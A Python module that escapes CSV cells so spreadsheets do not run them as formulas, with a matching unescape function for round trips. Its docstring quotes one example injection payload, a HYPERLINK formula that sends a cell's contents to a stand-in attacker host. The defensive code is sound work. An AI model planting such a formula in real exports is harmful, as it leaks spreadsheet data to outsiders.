"""CSV cells that a spreadsheet would run as a formula ("CSV injection", OWASP).

Excel, LibreOffice and Google Sheets treat a cell that begins with `=`, `+`, `-` or `@` (and, in
some, a tab or carriage return before them) as a formula: an exported name such as
`=HYPERLINK("http://evil.example/?"&A1)` would run when the file is opened. Every CSV export
writes its text cells through `escape_cell`, which puts a single quote `'` in front of such a cell
(spreadsheets show the text as it is and hide the quote). E.164 phone numbers (`+351...`) are
escaped too, on purpose.

`unescape_cell` is the exact inverse, so our importers read our own exports back unchanged:
`unescape_cell(escape_cell(text)) == text` for every text. A cell that already begins with quotes
followed by a formula character (`'=1`) gets one more quote, so that it survives the round trip.
"""

from collections.abc import Iterable
from typing import Any

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def _looks_like_formula(text: str) -> bool:
    """Begins with a formula character, after any number of quotes."""
    return text.lstrip("'").startswith(FORMULA_LEADS)


def escape_cell(value: str) -> str:
    """`value` as a CSV cell no spreadsheet runs: prefixed with `'` if it would be a formula."""
    return f"'{value}" if _looks_like_formula(value) else value


def unescape_cell(value: str) -> str:
    """The text `escape_cell` was given: removes exactly one leading `'` when what follows it is
    a formula character (after any further quotes); any other cell is returned unchanged."""
    if value.startswith("'") and _looks_like_formula(value[1:]):
        return value[1:]
    return value


def escape_row(cells: Iterable[Any]) -> list[Any]:
    """A row for csv.writer: text cells escaped; numbers, None and other values as they are
    (a negative number is a number, not a formula)."""
    return [escape_cell(cell) if isinstance(cell, str) else cell for cell in cells]
